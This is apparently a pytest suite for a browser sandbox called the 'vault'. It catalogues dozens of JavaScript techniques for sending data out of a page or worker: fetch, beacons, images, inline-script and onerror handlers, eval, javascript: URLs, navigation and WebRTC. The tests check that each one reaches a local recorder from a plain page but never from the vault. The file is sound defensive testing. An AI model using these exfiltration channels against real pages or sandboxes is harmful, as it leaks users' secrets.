"""Whatever runs inside the vault reaches no server, and nobody outside reaches the vault."""

from __future__ import annotations

from typing import Final

import pytest

#: Where there is a document. In `EVERYWHERE` they work in workers, too.
EVERYWHERE: Final[dict[str, str]] = {
    "fetch": "fetch(url, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
    "websocket": "new WebSocket(url.replace('http', 'ws'))",
    "eventsource": "new EventSource(url)",
    "import": "import(url)",
    "worker": "new Worker(url)",
    "module-worker": "new Worker(url, {type: 'module'})",
    "cache": "caches.open('c').then(c => c.add(new Request(url, {mode: 'no-cors'})))",
    "compile": "WebAssembly.compileStreaming(fetch(url, {mode: 'no-cors'}))",
}
DOCUMENT: Final[dict[str, str]] = {
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Image().src = url",
    "srcset": "add('img', {srcset: url + ' 1x'})",
    "script": "add('script', {src: url})",
    "module-script": "add('script', {src: url, type: 'module'})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: url})",
    "style-import": "add('style', {textContent: `@import '${url}'`})",
    "background": "document.body.style.background = `url(${url})`",
    "font": "new FontFace('f', `url(${url})`).load()",
    "preload": "add('link', {rel: 'preload', as: 'image', href: url})",
    "prefetch": "add('link', {rel: 'prefetch', href: url})",
    "icon": "add('link', {rel: 'icon', href: url})",
    "manifest": "add('link', {rel: 'manifest', href: url})",
    "iframe": "add('iframe', {src: url})",
    "object": "add('object', {data: url})",
    "embed": "add('embed', {src: url})",
    "video": "add('video', {src: url, preload: 'auto'})",
    "audio": "new Audio(url).play()",
    "poster": "add('video', {poster: url})",
    "track": "add('video', {src: url}).append(Object.assign(document.createElement('track'), {src: url}))",
    "svg": "add('div', {innerHTML: `<svg><image href='${url}' width='9' height='9'/></svg>`})",
    "inline-frame": "add('iframe', {srcdoc: `<script>fetch('${url}', {mode: 'no-cors'})</script>`})",
    "inline-script": "add('script', {textContent: `fetch('${url}', {mode: 'no-cors'})`})",
    "handler": "add('div', {innerHTML: `<img src='x:' onerror=\"fetch('${url}', {mode: 'no-cors'})\">`})",
    "eval": "(0, eval)(`fetch('${url}', {mode: 'no-cors'})`)",
    "blob-frame": (
        "const page = new Blob([`<script>fetch('${url}')</script>`], {type: 'text/html'}); "
        "add('iframe', {src: URL.createObjectURL(page)})"
    ),
    "data-frame": "add('iframe', {src: `data:text/html,<img src='${url}'>`})",
    "javascript-frame": "add('iframe', {src: `javascript:fetch('${url}', {mode: 'no-cors'})`})",
    "open": "open(url)",
    "popup-link": "add('a', {href: url, target: '_blank'}).click()",
    "form": "const f = add('form', {action: url, method: 'get', target: '_blank'}); f.submit()",
    "ping": "const a = add('a', {href: '#', ping: url}); a.click()",
    "speculation": (
        "add('script', {type: 'speculationrules', "
        "textContent: JSON.stringify({prefetch: [{source: 'list', urls: [url], eagerness: 'immediate'}]})})"
    ),
    "worklet": "CSS.paintWorklet.addModule(url)",
    "audio-worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url)",
    "shared-worker": "new SharedWorker(url)",
    "service-worker": "navigator.serviceWorker.register(url)",
}
#: Each leads the document elsewhere, so each needs one of its own.
NAVIGATION: Final[dict[str, str]] = {
    "location": "location.href = url",
    "replace": "location.replace(url)",
    "self-link": "add('a', {href: url}).click()",
    "self-form": "add('form', {action: url, method: 'get'}).submit()",
    "self-post": "add('form', {action: url, method: 'post'}).submit()",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${url}`})",
    "navigate": "navigation.navigate(url)",
    "self-open": "open(url, '_self')",
    "parent": "parent.location = url",
    "top": "top.location = url",
    "javascript": "location.href = `javascript:fetch('${url}', {mode: 'no-cors'})`",
}
#: Those that get nowhere even where nothing is forbidden (scripts of workers must be of the own origin; a
#: headless browser shows no icon and installs no app), so that their failure in the vault proves nothing.
NEVER: Final = {
    "worker",
    "module-worker",
    "shared-worker",
    "service-worker",
    "manifest",
    "icon",
    "speculation",
}

PRELUDE: Final = """
const add = (tag, properties) => {
  const element = document.createElement(tag);
  Object.assign(element, properties);
  document.body.append(element);
  return element;
};
"""


def script(attacks: dict[str, str], base: str) -> str:
    """JavaScript that tries them all; one that fails at once does not hinder the others."""
    tries = "\n".join(
        f"try {{ const url = '{base}/{name}?secret'; {code}; }} catch (e) {{ errors.push('{name} ' + e); }}"
        for name, code in attacks.items()
    )
    return f"() => {{ {PRELUDE} const errors = []; {tries} return errors; }}"


#: Runs a script in a worker from a blob, which is how the vault makes its own.
IN_WORKER: Final = """code => new Promise(resolve => {
  const worker = new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
  worker.onmessage = ({data}) => resolve(data);
  worker.onerror = ({message}) => resolve('the worker broke: ' + message);
})"""


@pytest.fixture(scope="module")
def in_document(browser, serve, record, start, inside):
    """What two recorders saw of all attacks from a document: of a plain page's, and of the vault's."""
    attacks, plain, vault, host = EVERYWHERE | DOCUMENT, record(), record(), serve()
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(host.url)
        page.evaluate(script(attacks, plain.base))
        hiding = context.new_page()
        assert start(hiding, host) == "vault"
        inside(hiding).evaluate(script(attacks, vault.base))
        wait(page, lambda: all(plain.hits(name) for name in attacks.keys() - NEVER))
    return plain, vault


@pytest.fixture(scope="module")
def in_worker(browser, serve, record, start, inside):
    """The same for attacks from workers."""
    attacks, plain, vault, host = (
        EVERYWHERE | {"importScripts": "importScripts(url)"},
        record(),
        record(),
        serve(),
    )
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(host.url)
        hiding = context.new_page()
        assert start(hiding, host) == "vault"
        for name, code in attacks.items():
            for frame, recorder in ((page.main_frame, plain), (inside(hiding), vault)):
                run = f"postMessage(({script({name: code}, recorder.base).replace(PRELUDE, '')})())"
                assert isinstance(frame.evaluate(IN_WORKER, run), list)
        wait(page, lambda: all(plain.hits(name) for name in attacks.keys() - NEVER))
    return plain, vault


def wait(page, done):
    """Until it is done, and then as long as what is slower may take; 20 s at most."""
    for _ in range(100):
        page.wait_for_timeout(200)
        if done():
            break
    page.wait_for_timeout(1000)


@pytest.mark.parametrize("name", EVERYWHERE | DOCUMENT)
def test_from_its_document(name, in_document):
    plain, vault = in_document
    assert vault.hits(name) == []
    assert bool(plain.hits(name)) == (name not in NEVER)


@pytest.mark.parametrize("name", [*EVERYWHERE, "importScripts"])
def test_from_its_workers(name, in_worker):
    plain, vault = in_worker
    assert vault.hits(name) == []
    assert bool(plain.hits(name)) == (name not in NEVER)


def test_nothing_at_all_was_seen(in_document, in_worker):
    assert in_document[1].seen == []
    assert in_worker[1].seen == []


@pytest.mark.parametrize("name", NAVIGATION)
def test_by_leading_elsewhere(name, browser, serve, record, start, inside):
    """A frame may lead itself elsewhere, unless the frame around it forbids that. (Before it looks, the
    browser may open a connection to where it would go; but nothing is said on it.)"""
    attack, plain, vault, host = {name: NAVIGATION[name]}, record(), record(), serve()
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(host.url)
        page.evaluate(f"setTimeout({script(attack, plain.base)})")
        hiding = context.new_page()
        assert start(hiding, host) == "vault"
        inside(hiding).evaluate(f"void setTimeout({script(attack, vault.base)})")
        wait(hiding, lambda: plain.hits(name))
        assert hiding.url == host.url
    assert plain.hits(name)
    assert vault.seen == []


def test_by_webrtc(page, serve, record, start, inside):
    """WebRTC knows no connect-src: its doors must be gone."""
    assert start(page, serve()) == "vault"
    names = (
        "Object.getOwnPropertyNames(globalThis).filter(name => /RTCPeer|RTCData|WebTransport$/.test(name))"
    )
    assert page.evaluate(names) != []
    recorder = record()
    assert inside(page).evaluate(
        f"new (globalThis.WebTransport ?? Object)('https://127.0.0.1:{recorder.port}') && 1"
    )
    bring_back = """() => new Promise(resolve => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      try { resolve(typeof frame.contentWindow.RTCPeerConnection); } catch (error) { resolve(error.name); }
    })"""
    assert inside(page).evaluate(bring_back) in ("SecurityError", "undefined")
    assert (
        inside(page).evaluate("typeof RTCPeerConnection + typeof webkitRTCPeerConnection")
        == "undefinedundefined"
    )
    page.wait_for_timeout(1000)
    assert recorder.seen == []
